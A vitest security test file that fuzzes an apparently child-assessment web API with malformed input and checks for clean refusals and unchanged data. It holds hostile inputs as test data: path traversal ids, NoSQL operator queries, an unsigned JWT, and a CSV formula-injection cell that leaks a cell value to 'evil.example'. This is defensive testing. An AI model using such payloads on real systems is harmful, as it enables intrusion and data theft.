// Bad input on every endpoint, generated: broken JSON, wrong types, missing, extra, huge and odd values,
// odd ids in paths (traversal, other collections' ids), bad queries and tokens, broken multipart bodies.
// Every answer must be below 500 and, when refused, a JSON `{ "error": message }` with a readable message,
// with the stored data (tests/fixtures/data-snapshot.ts) exactly as it was before the request.
import { beforeAll, describe, expect, it } from "vitest";
import { answerKeys, isRecording, newAddress, postRecording, webm } from "../fixtures/assessments";
import { jsonBodyCases, multipart, oddIds, pathIdCases, sendRaw } from "../fixtures/bad-input";
import type { BadCase, Target as Route } from "../fixtures/bad-input";
import { CSV_HEADER, csvFile, storedParticipantsOf, uploadCsv } from "../fixtures/csv-upload";
import { dataSnapshot } from "../fixtures/data-snapshot";
import { CHILD } from "../fixtures/participant-accounts";
import { PROFILE_INFO, SCHOOL } from "../fixtures/profiles";
import { buildWorld, newInvitee, newTarget, PARENT_TILE } from "../fixtures/security-world";
import type { Target, World } from "../fixtures/security-world";
import { API_BASE_URL, FUNCTION_URL } from "../fixtures/emulators";

let world: World;
let target: Target;
let invitee: string;
let choiceQuestion: number;
let recordingQuestion: number;
const tally = { cases: 0, refused: 0, accepted: 0, statuses: {} as Record<number, number>, unchanged: 0 };

beforeAll(async () => {
  world = await buildWorld();
  target = await newTarget(world);
  invitee = await newInvitee(world);
  const keys = await answerKeys(world.assessment.id);
  choiceQuestion = target.result.questions.find((q) => !isRecording(q) && q.options.length > 0 && keys.has(q.id))?.id ?? 0;
  recordingQuestion = target.result.questions.find(isRecording)?.id ?? 0;
}, 120_000);

const owner = (path: string, method = "POST"): Route => ({ path, method, token: world.users.owner.idToken, headers: newAddress });
const device = (path: string, method = "POST"): Route => ({ path, method, headers: newAddress });
const direct = (route: Route): Route => ({ ...route, baseUrl: FUNCTION_URL });

const GROUPS: Record<string, () => BadCase[] | Promise<BadCase[]>> = {
  "PATCH /api/profile/": () => {
    const fields = { first_name: "text", last_name: "text", date_of_birth: "text", gender: "text", city: "text", country: "text" } as const;
    return jsonBodyCases("PATCH profile", owner("/api/profile/", "PATCH"), { ...PROFILE_INFO }, fields, []);
  },
  "POST /api/profile/set-type/": () =>
    jsonBodyCases("set-type", owner("/api/profile/set-type/"), { ...PARENT_TILE }, { user_type: "id", user_subtype: "id" }, ["user_type", "user_subtype"]),
  "POST /api/register-school/": () =>
    jsonBodyCases("register-school", owner("/api/register-school/"), { ...SCHOOL }, { name: "text", address: "text", city: "text", country: "text", website: "text" }, [
      "name",
    ]),
  "POST /api/text-to-speech/": () => [
    ...jsonBodyCases("tts", owner("/api/text-to-speech/"), { text: "Hello" }, { text: "text", voice_id: "id" }, ["text"]),
    ...jsonBodyCases("tts device", device("/api/text-to-speech/"), { text: target.result.questions[0]?.title, assessment_result_id: target.result.id }, { assessment_result_id: "id" }, [
      "assessment_result_id",
    ]),
  ],
  "POST /api/assessment-results/{id}/reviews/": () => [
    ...jsonBodyCases("review", owner(`/api/assessment-results/${target.result.id}/reviews/`), { question_id: recordingQuestion, is_correct: true }, {
      question_id: "int",
      is_correct: "id",
      note: "text",
    }, ["question_id", "is_correct"]),
    ...pathIdCases("review", direct(owner("")), (id) => `/api/assessment-results/${id}/reviews/`, oddIds([target.participantId, world.schoolId, invitee])),
    ...pathIdCases("spoken items", direct(owner("", "GET")), (id) => `/api/assessment-results/${id}/reviews/`, oddIds([target.participantId, world.schoolId, invitee])),
  ],
  // A school's admin sees the student but may not record an outcome: every body is refused, bad ones with 400.
  "POST /api/participants/{id}/diagnostic-outcome/": () => [
    ...jsonBodyCases("diagnostic outcome", owner(`/api/participants/${target.participantId}/diagnostic-outcome/`), { outcome: "identified", assessed_on: "2026-01-05", instrument: "DASH" }, {
      outcome: "id",
      assessed_on: "text",
      instrument: "text",
    }, ["outcome", "assessed_on", "instrument"]),
    ...pathIdCases("diagnostic outcome", direct(owner("")), (id) => `/api/participants/${id}/diagnostic-outcome/`, oddIds([target.result.id, world.schoolId, invitee])),
  ],
  "GET /api/assessment-results/{id}/recordings/{question_id}/": async () => {
    // A test with a real recording, so odd Range headers reach the byte-range code (harmless: it may answer 200).
    const heard = await newTarget(world);
    const question = heard.result.questions.find(isRecording)?.id ?? 0;
    if ((await postRecording({ resultId: heard.result.id, questionId: question, bytes: webm(2_000) })).status !== 200) throw new Error("recording refused");
    const path = (id: string, questionId: string | number) => `/api/assessment-results/${id}/recordings/${questionId}/`;
    const ranges = ["bytes=abc", "bytes=5-2", "bytes=-0", "bytes=999999-", `bytes=0-${"9".repeat(400)}`, `bytes=-${"9".repeat(400)}`, "bytes=0-1,2-3", `bytes=${"0-1,".repeat(1_500)}0-1`, "items=0-1", "bytes=--1", "bytes=1.5-"];
    return [
      ...ranges.map((range) => ({
        name: `recording: Range ${range.slice(0, 30)}`,
        send: () => sendRaw({ ...owner(path(heard.result.id, question), "GET"), headers: () => ({ ...newAddress(), range }) }),
        mayAccept: true,
      })),
      ...pathIdCases("GET recording", direct(owner("", "GET")), (id) => path(id, question), oddIds([heard.participantId, world.schoolId, invitee])),
      ...pathIdCases("GET recording question", direct(owner("", "GET")), (id) => path(heard.result.id, id), ["0", "-1", "1.5", "1e2", "0x10", "abc", "99999999999999999999", "%00", "%20", "x".repeat(2_000), choiceQuestion.toString()]),
    ];
  },
  "POST /api/feedback/": () => {
    const base = { name: "Ada", email: "ada@example.com", role: "parent", reason: "request-demo", message: "Hello there" };
    const fields = { name: "text", email: "id", role: "id", reason: "id", message: "text" } as const;
    return jsonBodyCases("feedback", device("/api/feedback/"), base, fields, Object.keys(fields));
  },
  "POST /api/subusers/": () => jsonBodyCases("invite", owner("/api/subusers/"), { email: "new.teacher@example.com" }, { email: "id" }, ["email"]),
  // Someone else's invitation, whatever the body: the one 404, and the invitation stays pending.
  "POST /api/invitations/{id}/accept/ and /decline/": () => [
    ...jsonBodyCases("decline", owner(`/api/invitations/${invitee}/decline/`), { delete_account: false }, { delete_account: "id" }, []),
    ...["accept", "decline"].flatMap((action) =>
      pathIdCases(action, direct(owner("")), (id) => `/api/invitations/${id}/${action}/`, oddIds([target.participantId, world.schoolId, invitee])),
    ),
  ],
  "POST /api/participants/": () => {
    const base = { ...CHILD, grade: "4", section: "B" };
    // Gender defaults to prefer_not_to_say and grade and section are optional text (spec section 5).
    const fields = { name: "text", gender: "id", date_of_birth: "id", grade: "text", section: "text", history: "text", difficulties: "text", consent: "flag" } as const;
    const dates = ["2999-01-01", "2017-02-30", "-1", "9.5", "nine", "2017-2-3", "03/02/2017"].map((date_of_birth) => ({
      name: `participant: date_of_birth ${date_of_birth}`,
      send: () => sendRaw(owner("/api/participants/"), JSON.stringify({ ...base, date_of_birth }), "application/json"),
    }));
    return [...jsonBodyCases("participant", owner("/api/participants/"), base, fields, ["name", "date_of_birth", "consent"]), ...dates];
  },
  "POST /api/assessment-results/get-or-create/": () => {
    const base = { participant_id: target.participantId, assessment_id: world.assessment.id };
    const swapped = [
      { participant_id: target.result.id, assessment_id: world.assessment.id },
      { participant_id: world.users.owner.uid, assessment_id: world.assessment.id },
      { participant_id: target.participantId, assessment_id: target.participantId },
      { participant_id: target.participantId, assessment_id: "age-99-100-v1" },
    ].map((json, i) => ({ name: `get-or-create: another collection's id #${i + 1}`, send: () => sendRaw(owner("/api/assessment-results/get-or-create/"), JSON.stringify(json), "application/json") }));
    return [
      ...jsonBodyCases("get-or-create", owner("/api/assessment-results/get-or-create/"), base, { participant_id: "id", assessment_id: "id" }, ["participant_id", "assessment_id"]).filter(
        (c) => !c.name.includes("extra fields"), // valid apart from the extras: it would hand back the open result
      ),
      ...swapped,
    ];
  },
  "POST /api/assessment-results/start-class/": () => {
    // The shared student's test is open already: the base request reports it and writes nothing.
    const route = owner("/api/assessment-results/start-class/");
    const cases = jsonBodyCases("start-class", route, { participant_ids: [target.participantId] }, { participant_ids: "list", grade: "text", section: "text" }, []).filter(
      (c) => c.name !== "start-class: participant_ids as a list", // ["x"] is a list of one well-formed id: reported not found
    );
    const lists = [Array(1001).fill(target.participantId), [target.participantId, 7], [null], [{ id: target.participantId }]].map((participant_ids, i) => ({
      name: `start-class: a bad list #${i + 1}`,
      send: () => sendRaw(route, JSON.stringify({ participant_ids }), "application/json"),
    }));
    return [...cases, ...lists];
  },
  "POST /api/start-assessment/ and /api/complete-assessment/": () =>
    ["/api/start-assessment/", "/api/complete-assessment/"].flatMap((path) => [
      ...jsonBodyCases(path, device(path), { assessment_result_id: target.result.id }, { assessment_result_id: "id" }, ["assessment_result_id"]).filter(
        (c) => !c.name.includes("extra fields"),
      ),
      ...[target.participantId, world.schoolId, invitee].map((id) => ({
        name: `${path}: another collection's id ${id}`,
        send: () => sendRaw(device(path), JSON.stringify({ assessment_result_id: id }), "application/json"),
      })),
    ]),
  "POST /api/answer-question/": () => {
    const base = { assessment_result_id: target.result.id, question_id: choiceQuestion, option_ids: ["zz-not-an-option"], answer_text: null };
    const fields = { assessment_result_id: "id", question_id: "int", option_ids: "list" } as const;
    return [
      ...jsonBodyCases("answer", device("/api/answer-question/"), base, fields, ["assessment_result_id", "question_id"]).filter((c) => !c.name.includes("extra fields")),
      { name: "answer: 21 option ids", send: () => sendRaw(device("/api/answer-question/"), JSON.stringify({ ...base, option_ids: Array(21).fill("a") }), "application/json") },
      { name: "answer: a question of no such id", send: () => sendRaw(device("/api/answer-question/"), JSON.stringify({ ...base, question_id: 999_999 }), "application/json") },
    ];
  },
  // Sent to the function's own URL: the Hosting emulator answers a decoded "../" with an HTML 404 before
  // any function runs (docs/security.md).
  "ids in paths": () => [
    ...pathIdCases("GET participant", direct(owner("", "GET")), (id) => `/api/participants/${id}`, oddIds([target.result.id, world.schoolId, invitee])),
    ...pathIdCases("DELETE participant", direct(owner("", "DELETE")), (id) => `/api/participants/${id}`, oddIds([target.result.id, world.schoolId, invitee])),
    ...pathIdCases("DELETE result", direct(owner("", "DELETE")), (id) => `/api/assessment-results/${id}`, oddIds([target.participantId, world.schoolId, invitee])),
    ...pathIdCases("DELETE subuser", direct(owner("", "DELETE")), (id) => `/api/subusers/${id}`, oddIds([target.participantId, world.users.owner.uid, world.users.sameSchoolTeacher.uid])),
    ...pathIdCases("GET result", direct(device("", "GET")), (id) => `/api/get-assessment-result-by-id/${id}/`, oddIds([target.participantId, world.schoolId])),
    ...pathIdCases("GET student code", direct(device("", "GET")), (id) => `/api/student-codes/${id}/`, oddIds([target.result.id, target.participantId])),
  ],
  "queries and tokens": () => [
    ...["age=-1", "age=9.5", "age=abc", "age=1e2", "age=", "age=999", "age=%209", "age=9&age=10", "", "age[$gt]=1"].map((query) => ({
      name: `by-age ?${query}`,
      send: () => sendRaw(owner(`/api/assessments/by-age/?${query}`, "GET")),
    })),
    ...["..%2Fx", target.result.id, "a%2Fb", "x".repeat(300), "participant_id[]=1"].map((value) => ({
      name: `results ?participant_id=${value.slice(0, 20)}`,
      send: () => sendRaw(owner(value.includes("=") ? `/api/assessment-results/?${value}` : `/api/assessment-results/?participant_id=${value}`, "GET")),
    })),
    ...["limit=0", "limit=-1", "limit=1e2", "limit=abc", "limit=5&limit=6", "limit[$gt]=1", "limit=5&cursor=..%2Fx", "limit=5&cursor=bm90IGpzb24", `limit=5&cursor=${"A".repeat(500)}`, "limit=5&grade[$ne]=1", `limit=5&section=${"x".repeat(300)}`].flatMap((query) =>
      // grade and section filter participants only: the results list ignores them like any unknown field.
      (query.includes("grade") || query.includes("section") ? ["/api/participants/"] : ["/api/participants/", "/api/assessment-results/"]).map((path) => ({
        name: `${path}?${query}`,
        send: () => sendRaw(owner(`${path}?${query}`, "GET")),
      })),
    ),
    // The Review page's filter (decision 25): true or false only; its pages' cursors are a time and an id.
    ...[
      "pending_review=yes",
      "pending_review=1",
      "pending_review=TRUE",
      "pending_review=true&pending_review=false",
      "pending_review[$ne]=false",
      "pending_review[]=true",
      "pending_review=true&limit=0",
      "pending_review=true&limit=5&cursor=bm90IGpzb24",
      // A participants page's cursor (a name, not a time) is not this list's.
      `pending_review=true&limit=5&cursor=${Buffer.from(JSON.stringify(["Mia", "abc"])).toString("base64url")}`,
      "pending_review=true&participant_id=..%2Fx",
    ].map((query) => ({
      name: `results ?${query.slice(0, 40)}`,
      send: () => sendRaw(owner(`/api/assessment-results/?${query}`, "GET")),
    })),
    ...["risk=severe", "risk=high&risk=low", "risk[]=high", "grade=3&grade=4", "grade[$ne]=1", `section=${"x".repeat(300)}`, "risk=HIGH"].map((query) => ({
      name: `results export ?${query.slice(0, 30)}`,
      send: () => sendRaw(owner(`/api/assessment-results/export/?${query}`, "GET")),
    })),
    ...["risk=severe", "risk=high&risk=low", "risk[]=high", "risk=HIGH&limit=5"].map((query) => ({
      name: `participants ?${query}`,
      send: () => sendRaw(owner(`/api/participants/?${query}`, "GET")),
    })),
    ...["grade=3&grade=4", "grade[$ne]=1", `section=${"x".repeat(300)}`].map((query) => ({
      name: `participants summary ?${query.slice(0, 30)}`,
      send: () => sendRaw(owner(`/api/participants/summary/?${query}`, "GET")),
    })),
    ...["Bearer", "Bearer a.b.c", "Basic dXNlcjpwYXNz", `Bearer ${"x".repeat(8_000)}`, "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", `bearer ${world.users.owner.idToken}x`].map(
      (authorization, i) => ({
        name: `participants with a bad Authorization header #${i + 1}`,
        send: () => fetch(`${API_BASE_URL}/api/participants/`, { method: "POST", headers: { authorization, "content-type": "application/json" }, body: JSON.stringify(CHILD) }),
      }),
    ),
  ],
  "POST /api/participants/upload/": async () => {
    const route = owner("/api/participants/upload/");
    const form = (content: string | Uint8Array, filename = "students.csv", field = "csv_file", consent: string | null = "true") => {
      const data = new FormData();
      if (consent !== null) data.set("consent", consent);
      data.set(field, new Blob([typeof content === "string" ? content : new Uint8Array(content)], { type: "text/csv" }), filename);
      return multipart(data);
    };
    const good = await form(csvFile(["Ann Berg,03/01/2017,Female,4,B,,"]));
    const huge = await form(csvFile(Array.from({ length: 40_000 }, (_, i) => `Student ${i} with a rather long name,03/01/2017,Female,4,B,,`)));
    const bodies: [string, () => Promise<{ bytes: Uint8Array; type: string }>][] = [
      ["a file over 2 MB", async () => huge],
      ["a truncated body", async () => ({ bytes: good.bytes.slice(0, Math.floor(good.bytes.length * 0.6)), type: good.type })],
      ["no boundary", async () => ({ bytes: good.bytes, type: "multipart/form-data" })],
      ["the wrong boundary", async () => ({ bytes: good.bytes, type: "multipart/form-data; boundary=nope" })],
      ["JSON instead of a form", async () => ({ bytes: new TextEncoder().encode("{}"), type: "application/json" })],
      ["the file under another field", () => form(csvFile(["Ann,03/01/2017,Female,4,B,,"]), "students.csv", "file")],
      ["a .txt file", () => form(csvFile(["Ann,03/01/2017,Female,4,B,,"]), "students.txt")],
      ["an empty file", () => form("")],
      ["only the header", () => form(`${CSV_HEADER}\r\n`)],
      ["another header", () => form("name,age\r\nAnn,9\r\n")],
      ["binary bytes", () => form(webm(2_000))],
      ["a row with a bad date and a NUL", () => form(csvFile(["Ann\u0000,31/31/2017,Female,4,B,,"]))],
      ["a formula cell with a bad gender", () => form(csvFile(['=HYPERLINK("http://evil.example"),03/01/2017,Robot,4,B,,']))],
      ["no consent", () => form(csvFile(["Ann Berg,03/01/2017,Female,4,B,,"]), "students.csv", "csv_file", null)],
      ["consent=false", () => form(csvFile(["Ann Berg,03/01/2017,Female,4,B,,"]), "students.csv", "csv_file", "false")],
      ["consent of 20 KB", () => form(csvFile(["Ann Berg,03/01/2017,Female,4,B,,"]), "students.csv", "csv_file", "true".repeat(5_000))],
    ];
    return bodies.map(([name, body]) => ({ name: `upload: ${name}`, send: async () => ((b) => sendRaw(route, b.bytes, b.type))(await body()) }));
  },
  "POST /api/answer-recording-question/": async () => {
    const route = device("/api/answer-recording-question/");
    const form = (fields: Record<string, string>, audio: Uint8Array | null = webm(), type = "audio/webm") => {
      const data = new FormData();
      for (const [key, value] of Object.entries(fields)) data.set(key, value);
      if (audio) data.set("audio_recording", new Blob([new Uint8Array(audio)], { type }), "answer.webm");
      return multipart(data);
    };
    const base = { assessment_result_id: target.result.id, question_id: String(recordingQuestion) };
    const good = await form(base);
    const bodies: [string, () => Promise<{ bytes: Uint8Array; type: string }>][] = [
      ["audio over 10 MB", () => form(base, webm(10 * 1024 * 1024 + 1))],
      ["a truncated body", async () => ({ bytes: good.bytes.slice(0, good.bytes.length - 80), type: good.type })],
      ["no boundary", async () => ({ bytes: good.bytes, type: "multipart/form-data" })],
      ["text labelled audio", () => form(base, new TextEncoder().encode("not audio at all"), "audio/webm")],
      ["a text file", () => form(base, webm(), "text/plain")],
      ["no audio", () => form(base, null)],
      ["no question_id", () => form({ assessment_result_id: target.result.id })],
      ["question_id abc", () => form({ ...base, question_id: "abc" })],
      ["question_id of a choice question", () => form({ ...base, question_id: String(choiceQuestion) })],
      ["a participant id as the result", () => form({ ...base, assessment_result_id: target.participantId })],
      ["a traversal as the result", () => form({ ...base, assessment_result_id: "../../profiles/x" })],
      ["a field of 20 KB", () => form({ ...base, answer_text: "a".repeat(20_000) })],
    ];
    return bodies.map(([name, body]) => ({ name: `recording: ${name}`, send: async () => ((b) => sendRaw(route, b.bytes, b.type))(await body()) }));
  },
};

const snapshot = () => dataSnapshot({ uids: Object.values(world.users).map((u) => u.uid) });
/** The data as the last refused case left it; null after an accepted one, which may have changed it. */
let known: string | null = null;

async function check(c: BadCase): Promise<string | null> {
  const before = known ?? (await snapshot());
  known = null;
  const response = await c.send();
  const text = await response.text();
  tally.cases += 1;
  tally.statuses[response.status] = (tally.statuses[response.status] ?? 0) + 1;
  if (response.status >= 500) return `${c.name}: ${response.status} ${text.slice(0, 200)}`;
  if (response.status < 400) {
    tally.accepted += 1;
    return c.mayAccept ? null : `${c.name}: accepted with ${response.status} ${text.slice(0, 200)}`;
  }
  tally.refused += 1;
  let error: unknown;
  try {
    error = (JSON.parse(text) as { error?: unknown }).error;
  } catch {
    return `${c.name}: ${response.status} is not JSON: ${text.slice(0, 120)}`;
  }
  if (typeof error !== "string" || error.length === 0 || error.length > 300 || /\n\s+at |Error:|Internal server error/.test(error)) {
    return `${c.name}: ${response.status} unclear error ${JSON.stringify(error)}`;
  }
  const after = await snapshot();
  if (after !== before) return `${c.name}: ${response.status} but the stored data changed`;
  known = after;
  tally.unchanged += 1;
  return null;
}

describe("bad input on every endpoint", () => {
  it.each(Object.keys(GROUPS))("%s: no 5xx, a clear JSON error, nothing stored", { timeout: 300_000 }, async (group) => {
    const cases = await (GROUPS[group] as () => BadCase[] | Promise<BadCase[]>)();
    const problems: string[] = [];
    for (const c of cases) {
      const problem = await check(c);
      if (problem) problems.push(problem);
    }
    expect(problems).toEqual([]);
  });

  it("stores a formula-injection cell as plain text, never evaluated or altered", async () => {
    const cell = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    const file = csvFile([`"${cell.replaceAll('"', '""')}",03/01/2017,Female,4,B,@SUM(1+1),+1-1`]);
    expect(await uploadCsv(world.users.otherParent, file)).toEqual({ status: 201, body: { created: 1 } });
    const stored = await storedParticipantsOf(world.users.otherParent.uid);
    expect(stored.find((p) => p.name === cell)).toMatchObject({ name: cell, history: "@SUM(1+1)", difficulties: "+1-1" });
  });

  it("has tried at least 300 cases, and prints the figures", async () => {
    expect(tally.cases).toBeGreaterThanOrEqual(300);
    console.log(
      `security-bad-input: ${tally.cases} cases; ${tally.refused} refused (4xx) with a JSON error and data unchanged in ${tally.unchanged}; ${tally.accepted} accepted as harmless; statuses ${JSON.stringify(tally.statuses)}; 5xx: ${Object.keys(tally.statuses).filter((s) => Number(s) >= 500).length}`,
    );
    expect(tally.unchanged).toBe(tally.refused);
  });
});
